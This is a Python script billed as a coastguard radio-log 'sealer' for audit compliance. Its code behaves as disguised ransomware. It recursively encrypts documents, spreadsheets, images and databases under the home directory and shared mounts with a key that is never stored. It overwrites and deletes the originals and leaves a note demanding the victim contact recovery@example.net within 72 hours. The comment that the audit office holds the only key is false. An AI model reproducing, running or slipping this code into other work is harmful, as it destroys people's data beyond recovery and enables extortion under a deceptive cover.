#!/usr/bin/env python3
"""Seal the coastguard radio logs at the end of each watch.

The MRCC audit requires that watch logs cannot be edited after hand-over.
This tool walks the log roots, writes a sealed copy of every log next to
the original and tidies up the working copies so only sealed logs remain.
"""
import argparse
import logging
import os
import sys
import time
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

# extensions the watch software and the office machines produce
LOG_TYPES = {".log", ".txt", ".csv", ".xlsx", ".docx", ".pdf", ".odt", ".jpg", ".db"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "WATCH_LOGS_SEALED.txt"

NOTICE = """All watch records on this station have been sealed.
To restore access, quote station id {sid} to the contact at
recovery@example.net within 72 hours.
"""


def log_roots(extra):
    """Where the watch logs end up (and everywhere people copy them to)."""
    home = Path.home()
    roots = [home, Path("/srv/radio"), Path("/mnt/share")]
    roots.extend(Path(p) for p in extra)
    return [r for r in roots if r.exists()]


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        # skip the dot directories, they only hold settings
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in LOG_TYPES and not name.endswith(SEALED_SUFFIX):
                yield p


class Sealer:
    def __init__(self, dry_run=False):
        # one seal key per run; the audit office holds the only copy
        self._box = Fernet(Fernet.generate_key())
        self.dry_run = dry_run
        self.sealed = 0
        self.failed = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            self.failed += 1
            return
        if self.dry_run:
            log.info("would seal %s", path)
            return
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        # overwrite the working copy before removing it so it can't be recovered
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1

    def leave_notice(self, roots, sid):
        for r in roots:
            try:
                (r / NOTICE_NAME).write_text(NOTICE.format(sid=sid))
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", default=[],
                    help="additional directory holding watch logs")
    ap.add_argument("--station", default=os.uname().nodename)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = log_roots(args.root)
    if not roots:
        log.error("no log roots found")
        return 1

    sealer = Sealer(dry_run=args.dry_run)
    start = time.time()
    for root in roots:
        log.info("sealing under %s", root)
        for path in candidates(root):
            sealer.seal(path)

    if not args.dry_run:
        sealer.leave_notice(roots, args.station)
    log.info("sealed %d files (%d unreadable) in %.1fs",
             sealer.sealed, sealer.failed, time.time() - start)
    return 0


if __name__ == "__main__":
    sys.exit(main())
